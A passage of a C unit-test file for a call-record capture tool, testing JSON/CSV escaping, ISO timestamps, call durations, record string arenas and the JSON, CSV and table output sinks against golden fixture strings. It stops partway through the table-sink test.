/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Unit tests for the call record helpers and the output sinks: buffer
 * escaping (JSON RFC 8259, CSV RFC 4180), derived durations, ISO times, the
 * exact JSON text of a record (the golden tests depend on it), CSV rows, the
 * table sink, and the SQLite sink (schema, batching, append, refusal of an
 * unwritable path or a newer schema, a batch committed after a second), CSV
 * formula injection and control bytes, terminal escapes in the table, and
 * a full disk cutting a file back to its last whole record.  Files go to a
 * mkdtemp() directory.
 */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <sqlite3.h>

#include "calltap/buf.h"
#include "calltap/err.h"
#include "calltap/record.h"
#include "calltap/sink.h"
#include "calltap/sip.h"
#include "test.h"
#include "../../src/sink/store_sql.h"

static char tmpdir[64];

/* ---- fixtures ---------------------------------------------------------- */

#define T0 INT64_C(1709296496123456) /* 2024-03-01T12:34:56.123456Z */

static void set_v4(struct ct_addr *a, uint8_t b0, uint8_t b1, uint8_t b2, uint8_t b3)
{
	memset(a, 0, sizeof(*a));
	a->family = 4;
	a->a[0] = b0;
	a->a[1] = b1;
	a->a[2] = b2;
	a->a[3] = b3;
}

/* 2001:db8::last */
static void set_v6(struct ct_addr *a, uint8_t last)
{
	memset(a, 0, sizeof(*a));
	a->family = 6;
	a->a[0] = 0x20;
	a->a[1] = 0x01;
	a->a[2] = 0x0d;
	a->a[3] = 0xb8;
	a->a[15] = last;
}

/* A record with every optional field absent. */
static struct ct_call_record *empty_record(void)
{
	struct ct_call_record *r = calloc(1, sizeof(*r));

	r->start_us = r->ringing_us = r->answer_us = r->end_us = CT_TIME_NONE;
	r->q850_cause = -1;
	r->disposition = CT_DISP_UNFINISHED;
	r->truncated = true;
	return r;
}

/* An answered call with an IPv4 and an IPv6 stream. */
static struct ct_call_record *full_record(void)
{
	struct ct_call_record *r = calloc(1, sizeof(*r));
	struct ct_stream_stats *s;

	r->call_id = strdup("a84b4c76e66710@pc33.example.com");
	r->caller = strdup("+15551234567");
	r->caller_name = strdup("Alice Smith");
	r->callee = strdup("18005550199");
	r->agent = strdup("2001");
	set_v4(&r->src_ip, 192, 0, 2, 10);
	set_v4(&r->dst_ip, 198, 51, 100, 20);
	r->src_port = 5060;
	r->dst_port = 5061;
	r->transport = CT_TRANSPORT_UDP;
	r->vlan = 100;
	r->start_us = T0;
	r->ringing_us = T0 + 1234500;  /* 1234.5 ms -> 1235 */
	r->answer_us = T0 + 5000499;   /* 5000.499 ms -> 5000 */
	r->end_us = T0 + 65432100;     /* 65.4321 s */
	r->final_code = 200;
	r->disposition = CT_DISP_ANSWERED;
	r->hangup_by = CT_PARTY_CALLER;
	r->q850_cause = 16;
	r->hangup_reason = strdup("Normal call clearing");
	r->auth_challenges = 1;
	r->invites = 2;
	r->sensor = strdup("edge-1");
	r->source = strdup("Google Ads");
	r->campaign = strdup("Spring, 2024");
	r->caller_number = strdup("+15551234567");
	r->callee_number = strdup("+18005550199");
	r->has_history = true;
	r->first_call = false;
	r->repeat_count = 3;
	r->has_callback = true;
	r->callback_us = 90123456;     /* 90.123456 s -> 90.123 */
	r->callback_of = strdup("m1@x");
	r->has_capture_drops = true;
	r->capture_drops = 17;
	r->evicted = true;
	r->cut_fields = CT_CUT_CALLER_NAME | CT_CUT_HANGUP_REASON;
	r->n_streams = 2;
	r->streams = calloc(2, sizeof(*r->streams));
	s = &r->streams[0];
	set_v4(&s->src, 192, 0, 2, 10);
	set_v4(&s->dst, 198, 51, 100, 20);
	s->sport = 40000;
	s->dport = 50000;
	s->ssrc = 0x1234abcd;
	s->payload_type = 0;
	strcpy(s->codec, "PCMU");
	s->packets = 3000;
	s->lost = 3;
	s->loss_pct = 0.1;
	s->duplicates = 1;
	s->out_of_order = 2;
	s->max_jitter_ms = 4.5678;
	s->mean_jitter_ms = 1.23449;
	s->max_delta_ms = 40.0;
	s->mos = 4.3;
	strcpy(s->dtmf, "123#");
	s = &r->streams[1];
	set_v6(&s->src, 1);
	set_v6(&s->dst, 2);
	s->sport = 40002;
	s->dport = 50002;
	s->ssrc = 0xdeadbeef;
	s->payload_type = -1;
	s->lost = -2;
	s->loss_pct = -0.001;
	s->mean_jitter_ms = NAN;
	s->max_delta_ms = INFINITY;
	return r;
}

/* lease fields: the number-pool session columns (all null here) */
#define LEASE_JSON "\"session_id\":null,\"visitor_id\":null,\"client_id\":null," \
	"\"utm_source\":null,\"utm_medium\":null,\"utm_campaign\":null,\"utm_term\":null," \
	"\"utm_content\":null,\"click_id\":null,"
#define LEASE_CSV_HEADER "session_id,visitor_id,client_id,utm_source,utm_medium,utm_campaign," \
	"utm_term,utm_content,click_id,"
#define LEASE_CSV ",,,,,,,,,"
/* PBX legs (src/attr/legs.c): none here (tests/unit/test_legs.c has them) */
#define LEGS_JSON "\"answered_by\":null,\"rings\":[],\"parent_call_id\":null,"
#define LEGS_CSV_HEADER "answered_by,rings,parent_call_id,"
#define LEGS_CSV ",[],,"
/* call quality over the streams: the full record's two streams, or none */
/* The quality columns, then start_seen (true: a zeroed record is a normal call). */
#define QUAL_JSON_FULL "\"rtp_packets\":3000,\"mos_min\":4.30,\"loss_pct_max\":0.10," \
	"\"jitter_max_ms\":4.568,\"start_seen\":true,"
#define QUAL_JSON_NONE "\"rtp_packets\":null,\"mos_min\":null,\"loss_pct_max\":null," \
	"\"jitter_max_ms\":null,\"start_seen\":true,"
#define QUAL_CSV_HEADER "rtp_packets,mos_min,loss_pct_max,jitter_max_ms,start_seen,"
#define QUAL_CSV_FULL "3000,4.30,0.10,4.568,true,"
#define QUAL_CSV_NONE ",,,,true,"

static const char full_json[] =
	"{\"call_id\":\"a84b4c76e66710@pc33.example.com\",\"caller\":\"+15551234567\","
	"\"caller_name\":\"Alice Smith\",\"callee\":\"18005550199\",\"agent\":\"2001\","
	"\"src_ip\":\"192.0.2.10\",\"src_port\":5060,\"dst_ip\":\"198.51.100.20\","
	"\"dst_port\":5061,\"transport\":\"udp\",\"vlan\":100,"
	"\"start_time\":\"2024-03-01T12:34:56.123456Z\","
	"\"ringing_time\":\"2024-03-01T12:34:57.357956Z\","
	"\"answer_time\":\"2024-03-01T12:35:01.123955Z\","
	"\"end_time\":\"2024-03-01T12:36:01.555556Z\","
	"\"setup_ms\":1235,\"answer_ms\":5000,\"duration_s\":65.432,\"talk_s\":60.432,"
	"\"final_code\":200,\"disposition\":\"answered\",\"hangup_by\":\"caller\","
	"\"q850_cause\":16,\"hangup_reason\":\"Normal call clearing\","
	"\"direction\":\"unknown\",\"truncated\":false,\"auth_challenges\":1,\"invites\":2,\"recording\":null,\"pcap_path\":null,\"undecodable_codecs\":null,"
	"\"sensor\":\"edge-1\",\"source\":\"Google Ads\",\"campaign\":\"Spring, 2024\","
	"\"first_call\":false,\"repeat_count\":3,\"callback_s\":90.123,\"callback_of\":\"m1@x\","
	"\"capture_drops\":17,\"evicted\":true,\"cut_fields\":\"caller_name,hangup_reason\","
	"\"caller_number\":\"+15551234567\",\"callee_number\":\"+18005550199\","
	LEASE_JSON LEGS_JSON QUAL_JSON_FULL "\"streams\":["
	"{\"src\":\"192.0.2.10:40000\",\"dst\":\"198.51.100.20:50000\","
	"\"ssrc\":\"0x1234ABCD\",\"payload_type\":0,\"codec\":\"PCMU\",\"packets\":3000,"
	"\"lost\":3,\"loss_pct\":0.10,\"duplicates\":1,\"out_of_order\":2,"
	"\"max_jitter_ms\":4.568,\"mean_jitter_ms\":1.234,\"max_delta_ms\":40.000,"
	"\"mos\":4.30,\"dtmf\":\"123#\"},"
	"{\"src\":\"[2001:db8::1]:40002\",\"dst\":\"[2001:db8::2]:50002\","
	"\"ssrc\":\"0xDEADBEEF\",\"payload_type\":null,\"codec\":null,\"packets\":0,"
	"\"lost\":-2,\"loss_pct\":0.00,\"duplicates\":0,\"out_of_order\":0,"
	"\"max_jitter_ms\":0.000,\"mean_jitter_ms\":null,\"max_delta_ms\":null,"
	"\"mos\":null,\"dtmf\":null}]}";

static const char empty_json[] =
	"{\"call_id\":null,\"caller\":null,\"caller_name\":null,\"callee\":null,"
	"\"agent\":null,\"src_ip\":null,\"src_port\":null,\"dst_ip\":null,"
	"\"dst_port\":null,\"transport\":\"unknown\",\"vlan\":null,\"start_time\":null,"
	"\"ringing_time\":null,\"answer_time\":null,\"end_time\":null,\"setup_ms\":null,"
	"\"answer_ms\":null,\"duration_s\":null,\"talk_s\":null,\"final_code\":null,"
	"\"disposition\":\"unfinished\",\"hangup_by\":null,\"q850_cause\":null,"
	"\"hangup_reason\":null,\"direction\":\"unknown\",\"truncated\":true,"
	"\"auth_challenges\":0,\"invites\":0,\"recording\":null,\"pcap_path\":null,\"undecodable_codecs\":null,"
	"\"sensor\":null,\"source\":null,\"campaign\":null,\"first_call\":null,"
	"\"repeat_count\":null,\"callback_s\":null,\"callback_of\":null,\"capture_drops\":null,"
	"\"evicted\":false,\"cut_fields\":null,\"caller_number\":null,\"callee_number\":null,"
	LEASE_JSON LEGS_JSON QUAL_JSON_NONE "\"streams\":[]}";

static const char csv_header[] =
	"call_id,caller,caller_name,callee,agent,src_ip,src_port,dst_ip,dst_port,"
	"transport,vlan,start_time,ringing_time,answer_time,end_time,setup_ms,"
	"answer_ms,duration_s,talk_s,final_code,disposition,hangup_by,q850_cause,"
	"hangup_reason,direction,truncated,auth_challenges,invites,recording,pcap_path,undecodable_codecs,"
	"sensor,source,campaign,first_call,repeat_count,callback_s,callback_of,capture_drops,"
	"evicted,cut_fields,caller_number,callee_number," LEASE_CSV_HEADER LEGS_CSV_HEADER QUAL_CSV_HEADER "streams\n";

static const char csv_full[] =
	"a84b4c76e66710@pc33.example.com,+15551234567,Alice Smith,18005550199,2001,"
	"192.0.2.10,5060,198.51.100.20,5061,udp,100,2024-03-01T12:34:56.123456Z,"
	"2024-03-01T12:34:57.357956Z,2024-03-01T12:35:01.123955Z,"
	"2024-03-01T12:36:01.555556Z,1235,5000,65.432,60.432,200,answered,caller,16,"
	"Normal call clearing,unknown,false,1,2,,,,edge-1,Google Ads,\"Spring, 2024\",false,3,"
	"90.123,m1@x,17,true,\"caller_name,hangup_reason\",+15551234567,+18005550199," LEASE_CSV LEGS_CSV QUAL_CSV_FULL "2\n";

static const char csv_empty[] =
	",,,,,,,,,unknown,,,,,,,,,,,unfinished,,,,unknown,true,0,0,,,,,,,,,,,,false,,,," LEASE_CSV LEGS_CSV QUAL_CSV_NONE "0\n";

/* Reads a whole small file into a static buffer ("" on error). */
static const char *slurp(const char *path)
{
	static char data[16384];
	FILE *fp = fopen(path, "r");
	size_t n = 0;

	data[0] = '\0';
	if (fp == NULL)
		return data;
	n = fread(data, 1, sizeof(data) - 1, fp);
	data[n] = '\0';
	fclose(fp);
	return data;
}

static const char *tmp_path(const char *name)
{
	static char path[4][512];
	static int next;
	char *p = path[next++ % 4];

	snprintf(p, 512, "%s/%s", tmpdir, name);
	return p;
}

/* ---- buf ---------------------------------------------------------------- */

static const struct {
	const char *in;
	const char *json;
} json_vec[] = {
	{ "", "\"\"" },
	{ "plain", "\"plain\"" },
	{ "a\"b\\c/d", "\"a\\\"b\\\\c/d\"" },
	{ "\b\f\n\r\t", "\"\\b\\f\\n\\r\\t\"" },
	{ "\x01\x1f\x7f", "\"\\u0001\\u001f\x7f\"" },
	{ "J\xc3\xbcrgen", "\"J\xc3\xbcrgen\"" },                /* valid 2-byte */
	{ "\xe2\x82\xac \xf0\x9f\x98\x80", "\"\xe2\x82\xac \xf0\x9f\x98\x80\"" },
	{ "a\xff" "b", "\"a\\ufffdb\"" },                        /* invalid byte */
	{ "\xc3", "\"\\ufffd\"" },                               /* truncated at end */
	{ "\xc3(", "\"\\ufffd(\"" },                             /* bad continuation */
	{ "\xc0\xaf", "\"\\ufffd\\ufffd\"" },                    /* overlong '/' */
	{ "\xe0\x80\xaf", "\"\\ufffd\\ufffd\\ufffd\"" },         /* overlong 3-byte */
	{ "\xed\xa0\x80", "\"\\ufffd\\ufffd\\ufffd\"" },         /* UTF-16 surrogate */
	{ "\xf4\x90\x80\x80", "\"\\ufffd\\ufffd\\ufffd\\ufffd\"" }, /* > U+10FFFF */
	{ "\x80" "x", "\"\\ufffdx\"" },                          /* lone continuation */
};

static const struct {
	const char *in;
	const char *csv;
} csv_vec[] = {
	{ "plain", "plain" },
	{ "", "\"\"" },
	{ "a,b", "\"a,b\"" },
	{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
	{ "\"", "\"\"\"\"" },
	{ "line\nbreak", "\"line\nbreak\"" },
	{ "cr\r", "\"cr\r\"" },
	{ " lead", "\" lead\"" },
	{ "trail ", "\"trail \"" },
	{ "in side", "in side" },
	{ "J\xc3\xbcrgen", "J\xc3\xbcrgen" },
};

static void test_buf(void)
{
	struct ct_buf b;
	char big[1000];
	size_t i;

	ct_buf_init(&b);
	CHECK_STR(b.p, "");
	CHECK_INT(b.len, 0);
	for (i = 0; i < sizeof(json_vec) / sizeof(json_vec[0]); i++) {
		ct_buf_reset(&b);
		CHECK_INT(ct_buf_json_str(&b, json_vec[i].in), CT_OK);
		CHECK_STR(b.p, json_vec[i].json);
	}
	ct_buf_reset(&b);
	ct_buf_json_str(&b, NULL);
	CHECK_STR(b.p, "null");
	for (i = 0; i < sizeof(csv_vec) / sizeof(csv_vec[0]); i++) {
		ct_buf_reset(&b);
		CHECK_INT(ct_buf_csv_str(&b, csv_vec[i].in), CT_OK);
		CHECK_STR(b.p, csv_vec[i].csv);
	}
	ct_buf_reset(&b);
	CHECK_INT(ct_buf_csv_str(&b, NULL), CT_OK);
	CHECK_INT(b.len, 0);
	/* growth across several reallocations, printf larger than the slack */
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	ct_buf_reset(&b);
	ct_buf_puts(&b, "<");
	CHECK_INT(ct_buf_printf(&b, "%s|%d", big, 42), CT_OK);
	CHECK_INT(b.len, 1 + 999 + 3);
	CHECK(memcmp(b.p + 1000, "|42", 4) == 0);
	CHECK_INT(ct_buf_append(&b, "ab\0c", 4), CT_OK);
	CHECK_INT(b.len, 1007);
	CHECK_INT(b.p[1007], '\0');
	ct_buf_fini(&b);
	CHECK_STR(b.p, "");
	ct_buf_fini(&b);   /* twice is fine */
}

/* ---- record helpers ------------------------------------------------------ */

static const struct {
	int64_t us;
	const char *iso;
} iso_vec[] = {
	{ 0, "1970-01-01T00:00:00.000000Z" },
	{ 1, "1970-01-01T00:00:00.000001Z" },
	{ 999999, "1970-01-01T00:00:00.999999Z" },
	{ 1000000, "1970-01-01T00:00:01.000000Z" },
	{ INT64_C(489286923000042), "1985-07-04T01:02:03.000042Z" },
	{ INT64_C(946684799999999), "1999-12-31T23:59:59.999999Z" },
	{ INT64_C(951782400000000), "2000-02-29T00:00:00.000000Z" },
	{ T0, "2024-03-01T12:34:56.123456Z" },
	{ INT64_C(4107542400000000), "2100-03-01T00:00:00.000000Z" },   /* 2100: no leap day */
	{ INT64_C(4107542399999999), "2100-02-28T23:59:59.999999Z" },
	{ INT64_C(253402300799999999), "9999-12-31T23:59:59.999999Z" },
	{ INT64_C(253402300800000000), "" },    /* year 10000: past the clamp */
	{ INT64_MAX, "" },
	{ -1, "" },
	{ CT_TIME_NONE, "" },
};

/* ct_one_line: library messages folded into one line of an error message. */
static void test_one_line(void)
{
	static const struct { const char *in; size_t size; const char *want; } vec[] = {
		{ "FATAL:  role \"x\" does not exist\n", 64, "FATAL:  role \"x\" does not exist" },
		{ "could not connect\n\tIs the server running?\r\n", 64,
		  "could not connect; Is the server running?" },
		{ "a\nb\n", 64, "a; b" },
		{ "abcdefgh", 6, "abc" },
		{ "", 8, "" },
		{ NULL, 8, "" },
	};
	char out[64];
	size_t i;

	for (i = 0; i < sizeof(vec) / sizeof(vec[0]); i++) {
		memset(out, 'z', sizeof(out));
		ct_one_line(out, vec[i].size, vec[i].in);
		CHECK_STR(out, vec[i].want);
	}
}

static void test_time_iso(void)
{
	char buf[32];
	size_t i;

	for (i = 0; i < sizeof(iso_vec) / sizeof(iso_vec[0]); i++) {
		strcpy(buf, "junk");
		CHECK_STR(ct_time_iso(iso_vec[i].us, buf, sizeof(buf)), iso_vec[i].iso);
	}
	strcpy(buf, "junk");
	CHECK_STR(ct_time_iso(0, buf, 27), "");    /* needs 28 bytes */
	CHECK_STR(ct_time_iso(0, buf, 28), "1970-01-01T00:00:00.000000Z");
	CHECK(ct_time_iso(0, NULL, 0) == NULL);
	/* The day arithmetic against gmtime_r, every 7 h 13 min 17 s up to 2400. */
	for (int64_t sec = 0; sec < INT64_C(13569465600); sec += 25997) {
		char want[96];
		struct tm tm;
		time_t t = (time_t)sec;

		gmtime_r(&t, &tm);
		snprintf(want, sizeof(want), "%04d-%02d-%02dT%02d:%02d:%02d.000007Z",
		    tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec);
		ct_time_iso(sec * 1000000 + 7, buf, sizeof(buf));
		if (strcmp(buf, want) != 0) {
			CHECK_STR(buf, want);
			break;
		}
	}
}

static const struct {
	int64_t start, ringing, answer, end;
	int64_t setup_ms, answer_ms;
	double duration_s, talk_s;
} dur_vec[] = {
	{ 0, 499, 500, 1000000, 0, 1, 1.0, 0.9995 },
	{ 1000, 1000 + 1499, 1000 + 1500, 1000 + 2500, 1, 2, 0.0025, 0.001 },
	{ 5000000, 4000000, CT_TIME_NONE, 6000000, 0, -1, 1.0, -1.0 }, /* skew */
	{ 0, CT_TIME_NONE, 3000000, 2000000, -1, 3000, 2.0, 0.0 },      /* end < answer */
	{ 0, 100000, 200000, CT_TIME_NONE, 100, 200, -1.0, -1.0 },
	{ CT_TIME_NONE, 1, 2, 3, -1, -1, -1.0, 0.000001 }, /* talk needs no start */
};

static void test_durations(void)
{
	struct ct_call_record r;
	size_t i;

	memset(&r, 0, sizeof(r));
	for (i = 0; i < sizeof(dur_vec) / sizeof(dur_vec[0]); i++) {
		r.start_us = dur_vec[i].start;
		r.ringing_us = dur_vec[i].ringing;
		r.answer_us = dur_vec[i].answer;
		r.end_us = dur_vec[i].end;
		CHECK_INT(ct_record_setup_ms(&r), dur_vec[i].setup_ms);
		CHECK_INT(ct_record_answer_ms(&r), dur_vec[i].answer_ms);
		CHECK(fabs(ct_record_duration_s(&r) - dur_vec[i].duration_s) < 1e-9);
		CHECK(fabs(ct_record_talk_s(&r) - dur_vec[i].talk_s) < 1e-9);
	}
}

static void test_names(void)
{
	static const char *const disp[] = { "answered", "busy", "noanswer",
		"cancelled", "failed", "unfinished" };
	int i;

	for (i = 0; i <= CT_DISP_UNFINISHED; i++)
		CHECK_STR(ct_disposition_name((enum ct_disposition)i), disp[i]);
	CHECK_STR(ct_disposition_name((enum ct_disposition)99), "unknown");
	CHECK_STR(ct_party_name(CT_PARTY_NONE), NULL);
	CHECK_STR(ct_party_name(CT_PARTY_CALLER), "caller");
	CHECK_STR(ct_party_name(CT_PARTY_CALLEE), "callee");
	CHECK_STR(ct_direction_name(CT_DIR_UNKNOWN), "unknown");
	CHECK_STR(ct_direction_name(CT_DIR_INBOUND), "inbound");
	CHECK_STR(ct_direction_name(CT_DIR_OUTBOUND), "outbound");
	CHECK_STR(ct_direction_name(CT_DIR_INTERNAL), "internal");
	CHECK_STR(ct_transport_name(CT_TRANSPORT_UDP), "udp");
	CHECK_STR(ct_transport_name(CT_TRANSPORT_TCP), "tcp");
	CHECK_STR(ct_transport_name(0), "unknown");
	CHECK_STR(ct_transport_name(77), "unknown");
	ct_call_record_free(NULL);
}

/* True when p is in r's room. */
static bool in_room(const struct ct_call_record *r, const char *p)
{
	return r->arena != NULL && p >= r->arena && p < r->arena + r->arena_size;
}

/*
 * A record's strings in its own room, and the fields replaced after build
 * (enrichment): in the room while it fits, else their own blocks, freed
 * once by ct_call_record_free (ASan/LSan catch a leak or a double free).
 */
static void test_record_room(void)
{
	static const char longs[] = "0123456789012345678901234567890123456789";
	struct ct_call_record *r = ct_record_new(32);
	struct ct_ring *g;
	char *heap;

	CHECK(r != NULL);
	if (r == NULL)
		return;
	CHECK(r->arena == (char *)(r + 1));
	CHECK_INT(r->arena_size, 32);
	CHECK_INT(r->arena_used, 0);
	CHECK(r->call_id == NULL && r->streams == NULL && r->n_rings == 0);
	r->call_id = ct_record_strdup(r, "abc");
	CHECK(r->call_id == r->arena);
	CHECK_STR(r->call_id, "abc");
	CHECK_INT(r->arena_used, 4);
	r->caller = ct_record_strndup(r, "12345xyz", 5);
	CHECK(in_room(r, r->caller));
	CHECK_STR(r->caller, "12345");
	/* too long for the room left: its own block */
	r->callee = ct_record_strdup(r, longs);
	CHECK(r->callee != NULL && !in_room(r, r->callee));
	CHECK_STR(r->callee, longs);
	CHECK(ct_record_strdup(r, NULL) == NULL);
	/* replacing: a heap field by a room one, a room one by a heap one */
	CHECK_INT(ct_record_set_str(r, &r->callee, "2001"), CT_OK);
	CHECK(in_room(r, r->callee));
	CHECK_STR(r->callee, "2001");
	CHECK_INT(ct_record_set_str(r, &r->caller, longs), CT_OK);
	CHECK(!in_room(r, r->caller));
	CHECK_STR(r->caller, longs);
	/* the same string, and a copy of another field */
	CHECK_INT(ct_record_set_str(r, &r->caller, r->caller), CT_OK);
	CHECK_STR(r->caller, longs);
	CHECK_INT(ct_record_set_str(r, &r->agent, r->callee), CT_OK);
	CHECK(r->agent != r->callee);
	CHECK_STR(r->agent, "2001");
	CHECK_INT(ct_record_set_str(r, &r->agent, NULL), CT_OK);
	CHECK(r->agent == NULL);
	/* the room is used up: a take that does not fit fails, strings go to the heap */
	CHECK(ct_record_take(r, r->arena_size - r->arena_used + 1) == NULL);
	CHECK(ct_record_take(r, r->arena_size - r->arena_used) != NULL);
	CHECK_INT(r->arena_used, r->arena_size);
	r->sensor = ct_record_strdup(r, "s");
	CHECK(r->sensor != NULL && !in_room(r, r->sensor));
	/* a field set by a plain strdup (media, callcap) is freed with the record */
	r->recording = strdup("/tmp/rec.wav");
	ct_record_str_free(r, r->call_id);   /* in the room: a no-op */
	r->call_id = NULL;
	/* rings: their JSON in the room when it fits, else on the heap */
	g = calloc(1, sizeof(*g));
	g->agent = strdup("2001");
	g->start_us = g->end_us = CT_TIME_NONE;
	g->outcome = CT_RING_UNKNOWN;
	CHECK_INT(ct_record_set_rings(r, g, 1), CT_OK);
	CHECK(r->rings_json != NULL && !in_room(r, r->rings_json));
	ct_call_record_free(r);

	/* no room: every string its own block, as for a calloc'ed record */
	r = ct_record_new(0);
	CHECK(r != NULL && r->arena == NULL);
	if (r == NULL)
		return;
	r->call_id = ct_record_strdup(r, "x");
	heap = r->call_id;
	CHECK(heap != NULL && !in_room(r, heap));
	CHECK_INT(ct_record_set_str(r, &r->call_id, "y"), CT_OK);
	CHECK_STR(r->call_id, "y");
	ct_call_record_free(r);
	r = calloc(1, sizeof(*r));
	r->agent = strdup("2001");
	ct_record_str_free(r, r->agent);
	r->agent = strdup("2002");
	ct_call_record_free(r);
}

static void test_json(void)
{
	struct ct_call_record *r = full_record();
	struct ct_buf b;

	ct_buf_init(&b);
	CHECK_INT(ct_record_json(r, &b), CT_OK);
	CHECK_STR(b.p, full_json);
	ct_call_record_free(r);

	r = empty_record();
	ct_buf_reset(&b);
	CHECK_INT(ct_record_json(r, &b), CT_OK);
	CHECK_STR(b.p, empty_json);

	/* escaping inside a record; n_streams without an array is ignored */
	r->caller_name = strdup("J\xc3\xbcrgen \"JJ\" \\ \x01\t\xff");
	r->hangup_reason = strdup("line1\nline2");
	r->n_streams = 3;
	ct_buf_reset(&b);
	CHECK_INT(ct_record_json(r, &b), CT_OK);
	CHECK(strstr(b.p, "\"caller_name\":\"J\xc3\xbcrgen \\\"JJ\\\" \\\\ \\u0001\\t\\ufffd\","
	    "\"callee\":null") != NULL);
	CHECK(strstr(b.p, "\"hangup_reason\":\"line1\\nline2\",") != NULL);
	CHECK(strstr(b.p, ",\"streams\":[]}") != NULL);
	ct_call_record_free(r);

	/* codec/dtmf arrays that fill their whole size (no NUL) stay bounded */
	r = empty_record();
	r->n_streams = 1;
	r->streams = calloc(1, sizeof(*r->streams));
	memset(r->streams[0].codec, 'c', sizeof(r->streams[0].codec));
	r->streams[0].payload_type = 96;
	r->streams[0].mos = 1.005;
	ct_buf_reset(&b);
	CHECK_INT(ct_record_json(r, &b), CT_OK);
	CHECK(strstr(b.p, "\"src\":null,\"dst\":null,\"ssrc\":\"0x00000000\","
	    "\"payload_type\":96,\"codec\":\"cccccccccccccccccccccccc\",") != NULL);
	ct_call_record_free(r);
	ct_buf_fini(&b);
}

/* ---- text sinks ---------------------------------------------------------- */

/* Writes recs through ops into path; returns the close code. */
static int run_sink(const struct ct_sink_ops *ops, const char *path,
    struct ct_call_record **recs, size_t n, char *errbuf)
{
	void *priv = ct_sink_open_target(ops, path, errbuf);
	size_t i;

	if (priv == NULL)
		return CT_ERR;
	for (i = 0; i < n; i++)
		CHECK_INT(ops->write(priv, recs[i], errbuf), CT_OK);
	CHECK_INT(ops->flush(priv, errbuf), CT_OK);
	return ops->close(priv, errbuf);
}

static void test_json_sink(void)
{
	struct ct_call_record *recs[2] = { full_record(), empty_record() };
	char errbuf[CT_ERRBUF_SIZE] = "", want[4096];
	void *priv;

	CHECK_INT(run_sink(&ct_sink_json, tmp_path("out.jsonl"), recs, 2, errbuf), CT_OK);
	snprintf(want, sizeof(want), "%s\n%s\n", full_json, empty_json);
	CHECK_STR(slurp(tmp_path("out.jsonl")), want);

	CHECK(ct_sink_open_target(&ct_sink_json, "/nonexistent-dir/x.jsonl", errbuf) == NULL);
	CHECK_STR(errbuf, "cannot open '/nonexistent-dir/x.jsonl' for writing: "
	    "No such file or directory");
	CHECK(ct_sink_open_target(&ct_sink_json, tmpdir, errbuf) == NULL);
	CHECK(strstr(errbuf, tmpdir) != NULL && strstr(errbuf, "Is a directory") != NULL);

	/* a full disk is reported on the record that hit it, naming the file */
	priv = ct_sink_open_target(&ct_sink_json, "/dev/full", errbuf);
	CHECK(priv != NULL);
	if (priv != NULL) {
		errbuf[0] = '\0';
		CHECK_INT(ct_sink_json.write(priv, recs[0], errbuf), CT_ERR);
		CHECK_STR(errbuf, "cannot write to '/dev/full': No space left on device");
		ct_sink_json.close(priv, errbuf);
	}
	ct_call_record_free(recs[0]);
	ct_call_record_free(recs[1]);
}

static void test_csv_sink(void)
{
	struct ct_call_record *recs[3] = { full_record(), empty_record(), empty_record() };
	char errbuf[CT_ERRBUF_SIZE] = "", want[4096];

	recs[2]->call_id = strdup("q\"1");
	recs[2]->caller = strdup("");
	recs[2]->caller_name = strdup(" x\" y");
	recs[2]->callee = strdup("\"Boss\", Inc.");
	CHECK_INT(run_sink(&ct_sink_csv, tmp_path("out.csv"), recs, 3, errbuf), CT_OK);
	/* call_id is quoted because of its '"'; empty caller is "" */
	snprintf(want, sizeof(want), "%s%s%s\"q\"\"1\",\"\",\" x\"\" y\",\"\"\"Boss\"\", Inc.\","
	    ",,,,,unknown,,,,,,,,,,,unfinished,,,,unknown,true,0,0,,,,,,,,,,,,false,,,," LEASE_CSV LEGS_CSV QUAL_CSV_NONE "0\n",
	    csv_header, csv_full, csv_empty);
	CHECK_STR(slurp(tmp_path("out.csv")), want);

	CHECK(ct_sink_open_target(&ct_sink_csv, "/nonexistent-dir/x.csv", errbuf) == NULL);
	CHECK_STR(errbuf, "cannot open '/nonexistent-dir/x.csv' for writing: "
	    "No such file or directory");
	/* the header is written at open, so a full disk fails there */
	CHECK(ct_sink_open_target(&ct_sink_csv, "/dev/full", errbuf) == NULL);
	CHECK_STR(errbuf, "cannot write to '/dev/full': No space left on device");
	ct_call_record_free(recs[0]);
	ct_call_record_free(recs[1]);
	ct_call_record_free(recs[2]);
}

static void test_table_sink(void)
{
	struct ct_call_record *recs[3] = { full_record(), empty_record(), empty_record() };
	char errbuf[CT_ERRBUF_SIZE] = "";
	const char *want =
	    "start (UTC)         call-id  caller           callee           caller IP:port        callee IP:port        disposition ring s   answer s talk s   MOS  loss % code hangup reason\n"
	    "2024-03-01 12:34:56 a84b4c76 +15551234567     18005550199      192.0.2.10:5060       198.51.100.20:5061    answered    1.2      5.0      60.4     4.30 0.1    200  caller Normal call clearing\n"
	    "-                   -        -                -                -                     -                     unfinished  -        -        -        -    -      -    -      -\n"
	    "2024-03-01 12:34:56 -        J\xc3\xbcrgen?x\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc 1234567890123456 [2001:db8::1]:5060    -                     busy        -        -        -        -    -      486  callee abcdefghijklmnopqrstuvwxyz, a reason longer than the column\n"
	    "3 calls: 1 answered, 1 busy, 0 noanswer, 0 cancelled, 0 failed, 1 unfinished\n";

	recs[2]->start_us = T0;
	recs[2]->caller = strdup("J\xc3\xbcrgen\x1bx\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc"
	    "\xc3\xbc\xc3\xbc\xc3\xbc\xc3\xbc");
	recs[2]->callee = strdup("123456789012345678");
	recs[2]->src_ip.family = 6;
	recs[2]->src_ip.a[0] = 0x20;
	recs[2]->src_ip.a[1] = 0x01;
	recs[2]->src_ip.a[2] = 0x0d;
	recs[2]->src_ip.a[3] = 0xb8;
	recs[2]->src_ip.a[15] = 1;
	recs[2]->src_port = 5060;
	recs[2]->disposition = CT_DISP_BUSY;
	recs[2]->final_code = 486;
	recs[2]->hangup_by = CT_PARTY_CALLEE;
	recs[2]->hangup_reason = strdup("abcdefghijklmnopqrstuvwxyz, a reason longer than the column");
	/* no call-start events: nothing to wait for, each line comes as written */
